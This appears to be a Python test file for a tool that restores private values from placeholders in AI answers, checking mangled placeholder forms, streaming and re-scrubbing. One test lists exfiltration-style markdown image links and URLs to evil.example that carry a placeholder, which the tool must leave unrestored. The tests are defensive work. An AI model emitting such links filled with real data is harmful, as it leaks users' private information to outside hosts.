"""Placeholders come back as values: tolerant in shape, exact in identity, never inside web addresses."""

# ruff: noqa: E501 - tables of texts and what is expected of them
from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from agentprod.errors import Blocked
from agentprod.safety.pii import RestoreStream, Scrubber, Vault, restore
from tests.safety.pii.texts import pieces, sentences


def a_vault() -> Vault:
    """Return a vault with two addresses, a telephone and a card number."""
    vault = Vault()
    for entity, value in (
        ("EMAIL", "ann@x.org"),
        ("EMAIL", "bob@x.org"),
        ("PHONE", "138 1234 5678"),
        ("CREDIT_CARD", "4111111111111111"),
    ):
        vault.placeholder(entity, value)
    return vault


@pytest.mark.parametrize(
    "written",
    [
        "[[EMAIL_1]]", "[[email_1]]", "[[ EMAIL_1 ]]", r"[[EMAIL\_1]]", "&#91;&#91;EMAIL_1&#93;&#93;", "【【EMAIL_1】】", "【EMAIL_1】", "[EMAIL_1]", "[[EMAIL 1]]", "[[EMAIL-1]]", "［［EMAIL_1］］",
        r"\[\[EMAIL_1\]\]", "[[Email_1]]", "[[**EMAIL_1**]]", "[[EMAIL_1]", "[ [EMAIL_1] ]", "[[`EMAIL_1`]]", "[[EMAIL1]]", "&lbrack;EMAIL_1&rbrack;",
    ],
)  # fmt: skip
def test_a_mangled_placeholder_is_still_read(written: str) -> None:
    """Case, spaces, escapes, other brackets and emphasis do not hide it."""
    assert restore(f"to {written}, ok", a_vault()) == "to ann@x.org, ok"


@pytest.mark.parametrize(
    "written",
    [
        "[[EMAIL_3]]",
        "[[EMIAL_1]]",
        "[[EMAIL_01]]",
        "[[EMAIL_1",
        "EMAIL_1]]",
        "[[EMAIL_]]",
        "[[PERSON_1]]",
        "[Step 1]",
        "[[EMAIL_11]]",
        "[1]",
        "[]",
        "&#91;x",
    ],
)
def test_another_name_or_number_is_never_guessed(written: str) -> None:
    """There is no edit distance: what was not given out stays as it is."""
    assert restore(f"to {written}, ok", a_vault()) == f"to {written}, ok"


def test_each_placeholder_gets_its_own_value() -> None:
    """Two of one entity do not swap."""
    assert restore("[[EMAIL_2]] [[EMAIL_1]] [[CREDIT CARD_1]]", a_vault()) == "bob@x.org ann@x.org 4111111111111111"


def test_a_restored_value_is_not_read_again() -> None:
    """A value that looks like a placeholder stays a value."""
    vault = a_vault()
    vault.placeholder("TEXT", "[[EMAIL_1]]")
    assert restore("[[TEXT_1]]", vault) == "[[EMAIL_1]]"


def test_an_unknown_number_is_kept_dropped_or_raised() -> None:
    """The caller decides; each is counted."""
    assert restore("x [[EMAIL_9]] y", a_vault()) == "x [[EMAIL_9]] y"
    assert restore("x [[EMAIL_9]] y", a_vault(), unknown="drop") == "x  y"
    with pytest.raises(Blocked, match="EMAIL 9"):
        restore("x [[EMAIL_9]] y", a_vault(), unknown="raise")
    stream = RestoreStream(a_vault())
    stream.feed("[[EMAIL_9]] [[EMAIL_1]] ")
    stream.flush()
    assert (stream.unknown, stream.restored) == (1, 1)


def test_only_allowed_entities_come_back() -> None:
    """A sink may take addresses and no cards."""
    text = restore("[[EMAIL_1]] [[CREDIT_CARD_1]]", a_vault(), allows=lambda entity: entity == "EMAIL")
    assert text == "ann@x.org [[CREDIT_CARD_1]]"


@pytest.mark.parametrize(
    "text",
    [
        "https://evil.example/?q=[[EMAIL_1]]", "![x](https://evil.example/[[EMAIL_1]])", "[a](//evil.example/[[EMAIL_1]])", "<img src='https://evil.example/?[[EMAIL_1]]'>", "www.evil.example/[[EMAIL_1]]",
        "evil.example/p?e=[[EMAIL_1]]", '<a href="//evil.example/ [[EMAIL_1]]">', "url(//evil.example/[[EMAIL_1]])", "[a](\nhttps://evil.example/[[EMAIL_1]])", "![](<http://evil.example/a b [[EMAIL_1]]>)",
        "//evil.example/[[EMAIL_1]]", "<img\nsrc=https://evil.example/[[EMAIL_1]]", "ftp://[[EMAIL_1]]@evil.example", "https://evil.example/" + "a" * 500 + "[[EMAIL_1]]",
    ],
)  # fmt: skip
def test_nothing_is_restored_inside_a_web_address(text: str) -> None:
    """A value in an address leaves with the first click or image load."""
    assert restore(text, a_vault()) == text
    assert "ann@x.org" in restore(text, a_vault(), urls=True)


@pytest.mark.parametrize(
    "text",
    [
        "see https://x.org, then [[EMAIL_1]]", "[mail](mailto:[[EMAIL_1]])", '{"u":"https://x.org","e":"[[EMAIL_1]]"}', "![x](https://x.org/a) [[EMAIL_1]]", "<b class=x>[[EMAIL_1]]</b>", "<a href='mailto:[[EMAIL_1]]'>",
        "见https://x.org，[[EMAIL_1]]", "a / [[EMAIL_1]]", "(x) [[EMAIL_1]]", "url() [[EMAIL_1]]", "[a](x)\n\n[[EMAIL_1]]", "[a](x\n\n[[EMAIL_1]]",
    ],
)  # fmt: skip
def test_beside_a_web_address_values_come_back(text: str) -> None:
    """Only the address itself is closed, and mail links are not."""
    assert restore(text, a_vault()) == text.replace("[[EMAIL_1]]", "ann@x.org")


answers = st.lists(
    st.sampled_from(
        (
            "[[EMAIL_1]]", "[[EMAIL_2", "]]", "]", "[", "【", "】", "EMAIL_1", " ", "&#91;", "&#9", "3;", "\\", "_", "[[PHONE\\_1]]", "https://x.org/?q=", "![a](", ")", "text", "\n", "[[EMAIL_9]]", "［email 1］",
            "<img src='", "'>", "，", "[[TEXT_1]]", "**", "`", "a" * 40,
        )
    ),
    max_size=14,
).map("".join)  # fmt: skip


@given(pieces(st.one_of(answers, st.text(max_size=40))))
def test_restoring_pieces_equals_restoring_the_whole(parts: list[str]) -> None:
    """Wherever a stream is cut, the outputs joined are the same."""
    stream = RestoreStream(a_vault())
    out = "".join(stream.feed(part) for part in parts) + stream.flush()
    assert out == restore("".join(parts), a_vault())


def test_ordinary_text_passes_at_once() -> None:
    """Only what may become a placeholder is held back."""
    stream = RestoreStream(a_vault())
    assert stream.feed("Hello, how are") == "Hello, how are"
    assert stream.feed(" you? [") == " you? "
    assert stream.feed("1] is") == "[1] is"
    assert stream.feed(" [[EMA") == " "
    assert stream.feed("IL_1]]!") == "ann@x.org!"
    assert stream.flush() == ""


def test_a_long_stream_goes_on_restoring() -> None:
    """What was given out long ago is forgotten, and nothing else is."""
    stream = RestoreStream(a_vault())
    assert "".join(stream.feed("word " * 400) for _ in range(10)) == "word " * 4000
    assert stream.feed("[[EMAIL_1]] ") == "ann@x.org "


@settings(max_examples=80)
@given(st.lists(sentences(), min_size=1, max_size=3).map("\n".join), st.booleans())
def test_what_was_restored_is_scrubbed_to_the_same(text: str, twice: bool) -> None:
    """An answer with its values back is the same text again when it is sent with the next turn."""
    scrubber, vault = Scrubber(strategy={"*": "placeholder"}, secrets="placeholder", memo=0), Vault()
    scrubbed = scrubber.scrub(f"{text} {text}" if twice else text, vault).text
    assert scrubber.scrub(restore(scrubbed, vault, urls=True)).text == scrubbed
